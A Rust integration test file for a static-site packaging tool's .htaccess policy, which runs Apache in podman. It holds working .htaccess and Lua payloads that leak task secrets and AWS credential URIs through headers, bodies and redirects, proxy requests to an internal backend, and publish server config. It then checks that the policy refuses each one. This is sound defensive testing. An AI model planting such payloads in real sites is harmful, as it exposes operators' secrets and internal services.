//! The contributor policy proven against a real Apache. The operator's conf
//! loads Rocky Linux 9's stock module set (mod_lua, mod_proxy, mod_include,
//! mod_info, ...); the image runs as ECS runs it, with task secrets in its
//! environment, next to a backend it can reach. With every policy rule
//! switched off (`--allow`), one contributor repo holding every attack is
//! built, run in podman and each attack is shown to work over HTTP: the
//! attacks are real, not hypothetical. With the policy on, each attack alone
//! must be refused with its rule before anything is pushed, and the secret
//! must never show up in sitepack's output. A control shows that the same
//! conf with the policy on still builds and serves the example site.

mod common;

use std::collections::hash_map::RandomState;
use std::hash::{BuildHasher, Hasher};
use std::path::{Path, PathBuf};
use std::process::Command;

use common::moto::JsonServer;
use common::*;

/// The operator's httpd.conf. Its modules are Rocky Linux 9's stock
/// conf.modules.d (00-base, 00-dav, 00-lua, 00-mpm, 00-proxy, 01-cgi, 10-h2,
/// 10-proxy_h2) written inline, less mod_systemd, which Debian does not
/// ship; the modules Debian builds into apache2 are guarded as in the test
/// base's own conf. The docroot allows what contributors use, Options too
/// (so `+IncludesNOEXEC` can be tried). `@PORT@` is the loopback port httpd
/// listens on (see `run_as_ecs` for why not port 80).
const ROCKY_CONF: &str = r#"ServerRoot "/etc/httpd"
Listen 127.0.0.1:@PORT@

# Built into Debian's apache2, DSOs on Rocky.
<IfModule !unixd_module>
    LoadModule unixd_module modules/mod_unixd.so
</IfModule>
<IfModule !log_config_module>
    LoadModule log_config_module modules/mod_log_config.so
</IfModule>
<IfModule !logio_module>
    LoadModule logio_module modules/mod_logio.so
</IfModule>
<IfModule !version_module>
    LoadModule version_module modules/mod_version.so
</IfModule>
<IfModule !watchdog_module>
    LoadModule watchdog_module modules/mod_watchdog.so
</IfModule>

# 00-base.conf
LoadModule access_compat_module modules/mod_access_compat.so
LoadModule actions_module modules/mod_actions.so
LoadModule alias_module modules/mod_alias.so
LoadModule allowmethods_module modules/mod_allowmethods.so
LoadModule auth_basic_module modules/mod_auth_basic.so
LoadModule auth_digest_module modules/mod_auth_digest.so
LoadModule authn_anon_module modules/mod_authn_anon.so
LoadModule authn_core_module modules/mod_authn_core.so
LoadModule authn_dbd_module modules/mod_authn_dbd.so
LoadModule authn_dbm_module modules/mod_authn_dbm.so
LoadModule authn_file_module modules/mod_authn_file.so
LoadModule authn_socache_module modules/mod_authn_socache.so
LoadModule authz_core_module modules/mod_authz_core.so
LoadModule authz_dbd_module modules/mod_authz_dbd.so
LoadModule authz_dbm_module modules/mod_authz_dbm.so
LoadModule authz_groupfile_module modules/mod_authz_groupfile.so
LoadModule authz_host_module modules/mod_authz_host.so
LoadModule authz_owner_module modules/mod_authz_owner.so
LoadModule authz_user_module modules/mod_authz_user.so
LoadModule autoindex_module modules/mod_autoindex.so
LoadModule brotli_module modules/mod_brotli.so
LoadModule cache_module modules/mod_cache.so
LoadModule cache_disk_module modules/mod_cache_disk.so
LoadModule cache_socache_module modules/mod_cache_socache.so
LoadModule data_module modules/mod_data.so
LoadModule dbd_module modules/mod_dbd.so
LoadModule deflate_module modules/mod_deflate.so
LoadModule dir_module modules/mod_dir.so
LoadModule dumpio_module modules/mod_dumpio.so
LoadModule echo_module modules/mod_echo.so
LoadModule env_module modules/mod_env.so
LoadModule expires_module modules/mod_expires.so
LoadModule ext_filter_module modules/mod_ext_filter.so
LoadModule filter_module modules/mod_filter.so
LoadModule headers_module modules/mod_headers.so
LoadModule include_module modules/mod_include.so
LoadModule info_module modules/mod_info.so
LoadModule macro_module modules/mod_macro.so
LoadModule mime_magic_module modules/mod_mime_magic.so
LoadModule mime_module modules/mod_mime.so
LoadModule negotiation_module modules/mod_negotiation.so
LoadModule remoteip_module modules/mod_remoteip.so
LoadModule reqtimeout_module modules/mod_reqtimeout.so
LoadModule request_module modules/mod_request.so
LoadModule rewrite_module modules/mod_rewrite.so
LoadModule setenvif_module modules/mod_setenvif.so
LoadModule slotmem_plain_module modules/mod_slotmem_plain.so
LoadModule slotmem_shm_module modules/mod_slotmem_shm.so
LoadModule socache_dbm_module modules/mod_socache_dbm.so
LoadModule socache_memcache_module modules/mod_socache_memcache.so
LoadModule socache_redis_module modules/mod_socache_redis.so
LoadModule socache_shmcb_module modules/mod_socache_shmcb.so
LoadModule status_module modules/mod_status.so
LoadModule substitute_module modules/mod_substitute.so
LoadModule suexec_module modules/mod_suexec.so
LoadModule unique_id_module modules/mod_unique_id.so
LoadModule userdir_module modules/mod_userdir.so
LoadModule vhost_alias_module modules/mod_vhost_alias.so
# 00-dav.conf
LoadModule dav_module modules/mod_dav.so
LoadModule dav_fs_module modules/mod_dav_fs.so
LoadModule dav_lock_module modules/mod_dav_lock.so
# 00-lua.conf
LoadModule lua_module modules/mod_lua.so
# 00-mpm.conf
LoadModule mpm_event_module modules/mod_mpm_event.so
# 00-proxy.conf
LoadModule proxy_module modules/mod_proxy.so
LoadModule lbmethod_bybusyness_module modules/mod_lbmethod_bybusyness.so
LoadModule lbmethod_byrequests_module modules/mod_lbmethod_byrequests.so
LoadModule lbmethod_bytraffic_module modules/mod_lbmethod_bytraffic.so
LoadModule lbmethod_heartbeat_module modules/mod_lbmethod_heartbeat.so
LoadModule proxy_ajp_module modules/mod_proxy_ajp.so
LoadModule proxy_balancer_module modules/mod_proxy_balancer.so
LoadModule proxy_connect_module modules/mod_proxy_connect.so
LoadModule proxy_express_module modules/mod_proxy_express.so
LoadModule proxy_fcgi_module modules/mod_proxy_fcgi.so
LoadModule proxy_fdpass_module modules/mod_proxy_fdpass.so
LoadModule proxy_ftp_module modules/mod_proxy_ftp.so
LoadModule proxy_http_module modules/mod_proxy_http.so
LoadModule proxy_hcheck_module modules/mod_proxy_hcheck.so
LoadModule proxy_scgi_module modules/mod_proxy_scgi.so
LoadModule proxy_uwsgi_module modules/mod_proxy_uwsgi.so
LoadModule proxy_wstunnel_module modules/mod_proxy_wstunnel.so
# 01-cgi.conf (cgid under the event MPM)
LoadModule cgid_module modules/mod_cgid.so
# 10-h2.conf, 10-proxy_h2.conf
LoadModule http2_module modules/mod_http2.so
LoadModule proxy_http2_module modules/mod_proxy_http2.so

User apache
Group apache
ServerAdmin root@localhost
ServerName localhost
PidFile run/httpd.pid
# Rocky's httpd is built with this default; Debian's points at
# /var/run/apache2, which the base lacks (mod_cgid's socket goes here).
DefaultRuntimeDir run

<Directory />
    AllowOverride none
    Require all denied
</Directory>

DocumentRoot "/var/www/html"
<Directory "/var/www/html">
    Options Indexes FollowSymLinks
    AllowOverride AuthConfig FileInfo Indexes Limit Options
    Require all granted
</Directory>

<IfModule dir_module>
    DirectoryIndex index.html
</IfModule>

<Files ".ht*">
    Require all denied
</Files>

ErrorLog /dev/stderr
LogLevel warn
LogFormat "%h %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-Agent}i\"" combined
CustomLog /dev/stdout combined

TypesConfig /etc/mime.types
AddDefaultCharset UTF-8
EnableSendfile on
# Rocky's `IncludeOptional conf.d/*.conf` is left out: the Debian base has
# no conf.d of Rocky's, and what the .htaccess files may use is decided above.
"#;

/// A line of ROCKY_CONF that `server-info` publishes.
const CONF_LINE_SHOWN: &str = "AuthConfig FileInfo Indexes Limit Options";

/// A Lua handler that answers with the task's secret.
const LUA_HANDLER: &str = r#"function handle(r)
    r.content_type = "text/plain"
    r:puts("lua: " .. tostring(os.getenv("SECRET_TOKEN")))
    return apache2.OK
end
"#;

/// How an attack shows itself over HTTP when it works.
enum Sign {
    /// The body holds the secret.
    SecretInBody,
    /// This response header holds the secret.
    SecretInHeader(&'static str),
    /// The backend's marker came back through the site.
    BackendInBody,
    /// This header has this value: an oracle on the secret.
    Header(&'static str, &'static str),
    /// The body, trimmed, is exactly this.
    BodyIs(&'static str),
    /// The body holds this text.
    BodyHolds(&'static str),
}

/// A request (relative to the attack's folder) and what shows it worked.
struct Probe {
    path: &'static str,
    sign: Sign,
}

struct Attack {
    name: &'static str,
    /// Its own folder under site/coffeefans/.
    folder: &'static str,
    /// Files of the folder. `@BACKEND@` becomes the backend's port and
    /// `@DIR@` the folder's path in the image; an index.html is added.
    files: &'static [(&'static str, &'static str)],
    /// The rule that refuses it with the policy on.
    rule: &'static str,
    /// What shows it working with the policy off.
    probes: &'static [Probe],
}

const fn probe(path: &'static str, sign: Sign) -> Probe {
    Probe { path, sign }
}

const ATTACKS: &[Attack] = &[
    // --- Code execution: mod_lua runs the contributor's code -----------------
    Attack {
        name: "SetHandler lua-script runs a .lua file of the site",
        folder: "lua-sethandler",
        files: &[(".htaccess", "SetHandler lua-script\n"), ("leak.lua", LUA_HANDLER)],
        rule: "policy.handler",
        probes: &[probe("leak.lua", Sign::SecretInBody)],
    },
    Attack {
        name: "AddHandler lua-script .lua",
        folder: "lua-addhandler",
        files: &[(".htaccess", "AddHandler lua-script .lua\n"), ("leak.lua", LUA_HANDLER)],
        rule: "policy.handler",
        probes: &[probe("leak.lua", Sign::SecretInBody)],
    },
    Attack {
        name: "ForceType lua-script (a type with no handler becomes the handler)",
        folder: "lua-forcetype",
        files: &[(".htaccess", "ForceType lua-script\n"), ("leak.lua", LUA_HANDLER)],
        rule: "policy.handler",
        probes: &[probe("leak.lua", Sign::SecretInBody)],
    },
    Attack {
        name: "LuaHookFixups naming a .lua file of the site",
        folder: "lua-hook-file",
        files: &[
            (".htaccess", "LuaHookFixups @DIR@/hook.lua leak\n"),
            (
                "hook.lua",
                "function leak(r)\n    r.err_headers_out['X-Lua-Hook'] = tostring(os.getenv('SECRET_TOKEN'))\n    return apache2.DECLINED\nend\n",
            ),
        ],
        rule: "policy.lua",
        probes: &[probe("", Sign::SecretInHeader("X-Lua-Hook"))],
    },
    Attack {
        name: "inline <LuaHookFixups> section",
        folder: "lua-hook-inline",
        files: &[(
            ".htaccess",
            "<LuaHookFixups leak>\nfunction leak(r)\n    r.err_headers_out['X-Lua-Inline'] = tostring(os.getenv('SECRET_TOKEN'))\n    return apache2.DECLINED\nend\n</LuaHookFixups>\n",
        )],
        rule: "policy.lua",
        probes: &[probe("", Sign::SecretInHeader("X-Lua-Inline"))],
    },
    Attack {
        name: "inline <LuaHookFixups> section whose Lua reads as a DirectoryIndex line",
        folder: "lua-hook-inline-disguised",
        files: &[(
            ".htaccess",
            "<LuaHookFixups DirectoryIndex>\nDirectoryIndex = function(r) r.err_headers_out['X-Lua-Inline'] = tostring(os.getenv('SECRET_TOKEN')) return apache2.DECLINED end\n</LuaHookFixups>\n",
        )],
        rule: "policy.lua",
        probes: &[probe("", Sign::SecretInHeader("X-Lua-Inline"))],
    },
    // --- The network: the server fetches what the contributor names ----------
    Attack {
        name: "SetHandler proxy:http://backend/",
        folder: "proxy-handler",
        files: &[(".htaccess", "SetHandler \"proxy:http://127.0.0.1:@BACKEND@/\"\n")],
        rule: "policy.proxy",
        probes: &[probe("index.html", Sign::BackendInBody)],
    },
    Attack {
        name: "RewriteRule to the backend with [P]",
        folder: "proxy-rewrite",
        files: &[(".htaccess", "RewriteEngine On\nRewriteRule ^(.*)$ http://127.0.0.1:@BACKEND@/$1 [P]\n")],
        rule: "policy.proxy",
        probes: &[probe("anything", Sign::BackendInBody)],
    },
    // --- The environment: the task's secrets ---------------------------------
    Attack {
        name: "RewriteRule redirect carrying %{ENV:SECRET_TOKEN}",
        folder: "env-rewrite",
        files: &[(
            ".htaccess",
            "RewriteEngine On\nRewriteRule ^go$ /coffeefans/index.html?%{ENV:SECRET_TOKEN} [R=302,L]\n",
        )],
        rule: "policy.env-read",
        probes: &[probe("go", Sign::SecretInHeader("Location"))],
    },
    Attack {
        name: "Header set from expr=%{env:SECRET_TOKEN}",
        folder: "env-header-expr",
        files: &[(".htaccess", "Header set X-Leak \"expr=%{env:SECRET_TOKEN}\"\n")],
        rule: "policy.env-read",
        probes: &[probe("", Sign::SecretInHeader("X-Leak"))],
    },
    Attack {
        name: "ErrorDocument 404 \"%{env:SECRET_TOKEN}\"",
        folder: "env-errordocument",
        files: &[(".htaccess", "ErrorDocument 404 \"%{env:SECRET_TOKEN}\"\n")],
        rule: "policy.env-read",
        probes: &[probe("missing.html", Sign::SecretInBody)],
    },
    Attack {
        name: "${SECRET_TOKEN} expanded when httpd reads the .htaccess",
        folder: "env-define",
        files: &[(
            ".htaccess",
            "Header set X-Leak2 \"${SECRET_TOKEN}\"\nHeader set X-Creds \"${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI}\"\n",
        )],
        rule: "policy.env-read",
        probes: &[probe("", Sign::SecretInHeader("X-Leak2")), probe("", Sign::SecretInHeader("X-Creds"))],
    },
    Attack {
        name: "<If osenv('SECRET_TOKEN') =~ /^h/> as an oracle",
        folder: "env-osenv-if",
        files: &[(".htaccess", "<If \"osenv('SECRET_TOKEN') =~ /^h/\">\n    Header set X-Oracle \"starts with h\"\n</If>\n")],
        rule: "policy.env-read",
        probes: &[probe("", Sign::Header("X-Oracle", "starts with h"))],
    },
    Attack {
        name: "SSI (Options +IncludesNOEXEC, INCLUDES filter) testing osenv()",
        folder: "ssi-osenv",
        files: &[
            (".htaccess", "Options +IncludesNOEXEC\nAddOutputFilter INCLUDES .shtml\n"),
            ("page.shtml", "<!--#if expr=\"osenv('SECRET_TOKEN') =~ /^h/\" -->yes<!--#else -->no<!--#endif -->\n"),
        ],
        rule: "policy.includes",
        // Exactly "yes": the unprocessed page would hold the comments too.
        probes: &[probe("page.shtml", Sign::BodyIs("yes"))],
    },
    // --- Server state --------------------------------------------------------
    Attack {
        name: "SetHandler server-info publishes the operator's httpd.conf",
        folder: "server-info",
        files: &[(".htaccess", "SetHandler server-info\n")],
        rule: "policy.server-info",
        probes: &[probe("?config", Sign::BodyHolds(CONF_LINE_SHOWN))],
    },
];

/// Hex from the std hasher's random keys and the clock (no rand crate).
fn random_hex() -> String {
    let mut h = RandomState::new().build_hasher();
    h.write_u128(std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos());
    format!("{:016x}", h.finish())
}

/// What ECS would inject: starts with "h" so the oracles have a known answer.
fn secret() -> String {
    format!("h{}", random_hex())
}

fn container_name(test: &str) -> String {
    format!("sitepack-test-policy-{test}-{}", std::process::id())
}

fn write_conf(dir: &Path, port: u16) -> PathBuf {
    let path = dir.join("httpd.conf");
    std::fs::write(&path, ROCKY_CONF.replace("@PORT@", &port.to_string())).unwrap();
    path
}

/// Adds the attack's folder to a contributor repo.
fn add_attack(repo: &Path, attack: &Attack, backend_port: u16) {
    let dir = repo.join("site/coffeefans").join(attack.folder);
    std::fs::create_dir_all(&dir).unwrap();
    let in_image = format!("/var/www/html/coffeefans/{}", attack.folder);
    for (name, text) in attack.files {
        let text = text.replace("@BACKEND@", &backend_port.to_string()).replace("@DIR@", &in_image);
        std::fs::write(dir.join(name), text).unwrap();
    }
    if !dir.join("index.html").exists() {
        std::fs::write(dir.join("index.html"), format!("<p>{}</p>\n", attack.folder)).unwrap();
    }
}

/// `sitepack build` of `repo` into `reg` as sites/policy-attacks:TAG, with
/// the secret in sitepack's own environment too (a check that expanded
/// `${…}` itself could print it).
fn build(reg: &Registry, base: &str, repo: &Path, conf: &Path, tag: &str, allow: &[&str], secret: &str) -> Run {
    let mut cmd = sitepack(repo);
    cmd.env("SECRET_TOKEN", secret)
        .args(["build", "--base", base, "--image", &format!("{}/sites/policy-attacks:{tag}", reg.host)])
        .arg("--httpd-conf")
        .arg(conf);
    for rule in allow {
        cmd.args(["--allow", rule]);
    }
    run(&mut cmd)
}

fn push_base(reg: &Registry) -> String {
    reg.push_image(&format!("oci:{}:latest", apache_base_layout().display()), "base/httpd:bookworm")
}

/// A service on the host's loopback that only the server itself should be
/// able to reach (as the ECS credentials endpoint is): it answers every
/// request with its own marker.
struct Backend {
    _server: JsonServer,
    port: u16,
    marker: String,
}

impl Backend {
    fn start() -> Backend {
        let marker = format!("backend-answer-{}", random_hex());
        let server = JsonServer::start("/", marker.clone());
        let port = server.url.rsplit(':').next().and_then(|p| p.trim_end_matches('/').parse().ok()).unwrap();
        Backend { _server: server, port, marker }
    }
}

/// Pulls `host/repo@digest` into podman's storage.
fn pull(reg: &Registry, digest: &str) -> String {
    let image = format!("{}/sites/policy-attacks@{digest}", reg.host);
    let _storage = storage_lock();
    run_ok(podman().args(["pull", "--quiet", "--tls-verify=false", &image]));
    image
}

/// The image run as ECS runs it (the task's secrets in its environment),
/// on the host's network: the backend listens on the host's loopback, which
/// a container behind `-p` cannot reach, so httpd listens on a free
/// loopback port of its own, written into the operator conf
/// (`Listen 127.0.0.1:PORT`) before the build.
fn run_as_ecs(image: &str, name: &str, port: u16, secret: &str) -> Container {
    let creds = format!("/v2/creds-{secret}");
    Container::run_with(
        image,
        name,
        Network::Host { port },
        &[("SECRET_TOKEN", secret), ("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", &creds)],
    )
}

/// One HTTP answer with its headers (curl, no redirects followed).
struct Answer {
    status: u16,
    headers: Vec<(String, String)>,
    body: String,
}

impl Answer {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(n, _)| n.eq_ignore_ascii_case(name)).map(|(_, v)| v.as_str())
    }

    /// Status, headers and the start of the body, for failure messages.
    fn shown(&self) -> String {
        let headers: Vec<String> = self.headers.iter().map(|(n, v)| format!("{n}: {v}")).collect();
        let body: String = self.body.chars().take(300).collect();
        format!("{} [{}] {body:?}", self.status, headers.join("; "))
    }
}

fn fetch(url: &str) -> Option<Answer> {
    let dir = tempfile::tempdir().unwrap();
    let (head, body) = (dir.path().join("head"), dir.path().join("body"));
    let out = Command::new("curl")
        .args(["-s", "--max-time", "5", "-D"])
        .arg(&head)
        .arg("-o")
        .arg(&body)
        .args(["-w", "%{http_code}", url])
        .output()
        .unwrap();
    let status: u16 = String::from_utf8_lossy(&out.stdout).trim().parse().ok()?;
    if status == 0 {
        return None;
    }
    let headers = std::fs::read_to_string(&head)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| l.split_once(':'))
        .map(|(n, v)| (n.trim().to_owned(), v.trim().to_owned()))
        .collect();
    let body = String::from_utf8_lossy(&std::fs::read(&body).unwrap_or_default()).into_owned();
    Some(Answer { status, headers, body })
}

/// None when the sign is there; else what is missing.
fn sign_missing(sign: &Sign, a: &Answer, secret: &str, backend: &Backend) -> Option<String> {
    let header_holds = |name: &str, want: &str| a.header(name).is_some_and(|v| v.contains(want));
    let ok = match sign {
        Sign::SecretInBody => a.body.contains(secret),
        Sign::SecretInHeader(name) => header_holds(name, secret),
        Sign::BackendInBody => a.body.contains(&backend.marker),
        Sign::Header(name, value) => a.header(name) == Some(*value),
        Sign::BodyIs(text) => a.body.trim() == *text,
        Sign::BodyHolds(text) => a.body.contains(text),
    };
    let what = match sign {
        Sign::SecretInBody => "the secret in the body".to_owned(),
        Sign::SecretInHeader(name) => format!("the secret in header {name}"),
        Sign::BackendInBody => "the backend's answer in the body".to_owned(),
        Sign::Header(name, value) => format!("header {name}: {value}"),
        Sign::BodyIs(text) => format!("a body of exactly {text:?}"),
        Sign::BodyHolds(text) => format!("{text:?} in the body"),
    };
    (!ok).then_some(what)
}

/// The error findings of a build's stderr (the conf's warnings left out),
/// else its last lines.
fn errors_of(stderr: &str) -> String {
    let errors: Vec<&str> = stderr.lines().filter(|l| l.contains(": error:")).collect();
    if errors.is_empty() {
        let lines: Vec<&str> = stderr.lines().collect();
        lines[lines.len().saturating_sub(5)..].join("\n")
    } else {
        errors.join("\n")
    }
}

#[test]
fn every_attack_works_against_apache_when_the_policy_is_switched_off() {
    let reg = Registry::start();
    let base = push_base(&reg);
    let backend = Backend::start();
    let secret = secret();
    let work = tempfile::tempdir().unwrap();
    let port = free_port();
    let conf = write_conf(work.path(), port);

    let repo = example_repo();
    let attacks: Vec<&Attack> = ATTACKS.iter().collect();
    for attack in &attacks {
        add_attack(repo.path(), attack, backend.port);
    }
    // Every policy rule sitepack knows, switched off.
    let all_rules = sitepack::check::policy::Rule::ids();
    let built = build(&reg, &base, repo.path(), &conf, "policy-off", &all_rules, &secret);
    assert!(!built.stdout.contains(&secret) && !built.stderr.contains(&secret), "the secret is in sitepack's output");
    let built = built.ok();
    let digest = built.stdout.trim();
    assert!(digest.starts_with("sha256:"), "{digest}");

    let image = pull(&reg, digest);
    let c = run_as_ecs(&image, &container_name("off"), port, &secret);
    // The contributor's own pages still work beside the attacks.
    assert_eq!(curl_status(&c.url("/coffeefans/members/"), None), Some(401), "members without credentials");

    let mut failures = Vec::new();
    for attack in &attacks {
        for p in attack.probes {
            let url = c.url(&format!("/coffeefans/{}/{}", attack.folder, p.path));
            match fetch(&url) {
                None => failures.push(format!("{}: nothing answered {url}", attack.name)),
                Some(a) => match sign_missing(&p.sign, &a, &secret, &backend) {
                    Some(missing) => {
                        failures.push(format!("{}: expected {missing} from {url}, got {}", attack.name, a.shown()))
                    }
                    None => eprintln!("attack works: {}: {url} -> {}", attack.name, a.shown()),
                },
            }
        }
    }
    if !failures.is_empty() {
        let logs = podman().args(["logs", &c.name]).output().unwrap();
        let logs = String::from_utf8_lossy(&logs.stderr);
        // Without the "loaded module" lines, at most the last 60.
        let lines: Vec<&str> = logs.lines().filter(|l| !l.contains("AH01575")).collect();
        let tail = &lines[lines.len().saturating_sub(60)..];
        panic!(
            "{} of {} attacks did not work with the policy off:\n{}\n\nhttpd's log:\n{}",
            failures.len(),
            attacks.len(),
            failures.join("\n"),
            tail.join("\n")
        );
    }
}

#[test]
fn every_attack_is_refused_with_its_rule_when_the_policy_is_on() {
    let reg = Registry::start();
    let base = push_base(&reg);
    let secret = secret();
    let work = tempfile::tempdir().unwrap();
    let conf = write_conf(work.path(), free_port());
    // No backend runs: a refused build never gets as far as the network.
    let backend_port = 9;

    let mut failures = Vec::new();
    let mut refused = Vec::new();
    for attack in ATTACKS {
        let repo = example_repo();
        add_attack(repo.path(), attack, backend_port);
        let tag = format!("refused-{}", attack.folder);
        let out = build(&reg, &base, repo.path(), &conf, &tag, &[], &secret);
        let mut problems = Vec::new();
        if out.status.code() != Some(2) {
            problems.push(format!("exit {:?}, expected 2", out.status.code()));
        }
        if !out.stderr.contains(&format!("({})", attack.rule)) {
            problems.push(format!("no finding with rule {}", attack.rule));
        }
        if reg.manifest_digest(&format!("sites/policy-attacks:{tag}")).is_some() {
            problems.push("the tag was pushed".into());
        }
        if out.stdout.contains(&secret) || out.stderr.contains(&secret) {
            problems.push("the secret is in sitepack's output".into());
        }
        if problems.is_empty() {
            refused.push(attack.name);
        } else {
            failures.push(format!(
                "{} (expects {}): {}\n{}",
                attack.name,
                attack.rule,
                problems.join("; "),
                errors_of(&out.stderr)
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} attacks were not refused as expected:\n{}\n\nrefused as expected: {}",
        failures.len(),
        ATTACKS.len(),
        failures.join("\n"),
        refused.join("; ")
    );
}

/// What a static site does and the policy allows (proof that it does not
/// block them): a folder, its files, a request in it and what must come back.
struct Control {
    folder: &'static str,
    files: &'static [(&'static str, &'static str)],
    path: &'static str,
    sign: Sign,
}

const fn control(
    folder: &'static str,
    files: &'static [(&'static str, &'static str)],
    path: &'static str,
    sign: Sign,
) -> Control {
    Control { folder, files, path, sign }
}

const CONTROLS: &[Control] = &[
    control(
        "redirect-status",
        &[(".htaccess", "RewriteEngine On\nRewriteCond %{ENV:REDIRECT_STATUS} ^$\nRewriteRule ^old$ /coffeefans/index.html [R=302,L]\n")],
        "old",
        Sign::Header("Location", "@ORIGIN@/coffeefans/index.html"),
    ),
    control(
        "setenvif",
        &[(
            ".htaccess",
            "SetEnvIf Request_URI ^ SITE_MODE=live\nRewriteEngine On\nRewriteCond %{ENV:SITE_MODE} =live\nRewriteRule ^beta$ /coffeefans/ [R=302,L]\nHeader set X-Site-Mode \"%{SITE_MODE}e\"\n",
        )],
        "beta",
        Sign::Header("Location", "@ORIGIN@/coffeefans/"),
    ),
    control(
        "setenvif",
        &[],
        "index.html",
        Sign::Header("X-Site-Mode", "live"),
    ),
    control(
        "headers",
        &[(
            ".htaccess",
            "Header set X-Frame-Options DENY\nExpiresActive On\nExpiresDefault \"access plus 1 hour\"\nFileETag None\n",
        )],
        "index.html",
        Sign::Header("X-Frame-Options", "DENY"),
    ),
    control("headers", &[], "index.html", Sign::Header("Cache-Control", "max-age=3600")),
    control(
        "errors",
        &[
            (".htaccess", "ErrorDocument 404 /coffeefans/controls/errors/missing.html\n"),
            ("missing.html", "custom not found\n"),
        ],
        "nope.html",
        Sign::BodyIs("custom not found"),
    ),
];

#[test]
fn example_site_and_benign_controls_build_and_serve_under_the_rocky_module_set_with_the_policy_on() {
    let reg = Registry::start();
    let base = push_base(&reg);
    let secret = secret();
    let work = tempfile::tempdir().unwrap();
    let port = free_port();
    let conf = write_conf(work.path(), port);
    let repo = example_repo();
    for Control { folder, files, .. } in CONTROLS {
        let dir = repo.path().join("site/coffeefans/controls").join(folder);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("index.html"), "control\n").unwrap();
        for (name, text) in *files {
            std::fs::write(dir.join(name), text).unwrap();
        }
    }
    let built = build(&reg, &base, repo.path(), &conf, "control", &[], &secret).ok();
    let digest = built.stdout.trim();
    assert!(digest.starts_with("sha256:"), "{digest}");

    let image = pull(&reg, digest);
    let c = run_as_ecs(&image, &container_name("control"), port, &secret);
    assert_serves_example_site(&c);

    let origin = c.url("");
    let origin = origin.trim_end_matches('/');
    let mut failed = Vec::new();
    for Control { folder, path, sign, .. } in CONTROLS {
        let url = c.url(&format!("/coffeefans/controls/{folder}/{path}"));
        let answer = fetch(&url).expect("apache answers");
        let ok = match sign {
            Sign::Header(name, want) => answer.header(name) == Some(want.replace("@ORIGIN@", origin).as_str()),
            Sign::BodyIs(text) => answer.body.trim() == *text,
            _ => unreachable!("controls use headers and bodies"),
        };
        if !ok {
            failed.push(format!("{folder}/{path}: {}", answer.shown()));
        }
    }
    assert!(failed.is_empty(), "benign controls did not serve as expected:\n{}", failed.join("\n"));
}
